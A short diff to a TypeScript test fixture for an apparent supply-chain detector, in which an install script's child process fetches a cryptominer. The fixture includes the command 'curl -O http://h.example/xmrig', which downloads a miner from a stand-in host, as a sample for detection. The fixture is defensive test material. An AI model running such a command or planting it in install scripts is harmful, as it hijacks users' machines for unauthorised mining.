@@ -16,7 +16,11 @@ export const fixture: DetectorFixture = {
       name: 'a script whose child fetches a miner',
       seen: [
         script('command', 'node install.js'),
-        started(4, { why: ['fetches', 'package-script'], command: 'curl -O http://h.example/xmrig' }),
+        started(4, {
+          why: ['fetches', 'package-script'],
+          folder: '/srv/app/node_modules/tiny-colours',
+          command: 'curl -O http://h.example/xmrig',
+        }),
       ],
       stage: 'capability',
     },
